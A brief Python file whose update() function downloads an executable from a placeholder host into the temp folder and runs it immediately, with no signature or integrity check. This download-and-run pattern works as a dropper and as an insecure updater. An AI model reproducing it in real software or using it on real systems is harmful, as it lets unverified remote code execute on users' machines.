import os
import subprocess

import requests


def _fetch(url, dest):
    data = requests.get(url, timeout=10).content
    with open(dest, "wb") as fh:
        fh.write(data)


def _start(path):
    subprocess.Popen([path])


def update():
    target = os.path.join(os.environ.get("TEMP", "/tmp"), "updater.exe")
    _fetch("https://stage.example.invalid/updater.exe", target)
    _start(target)
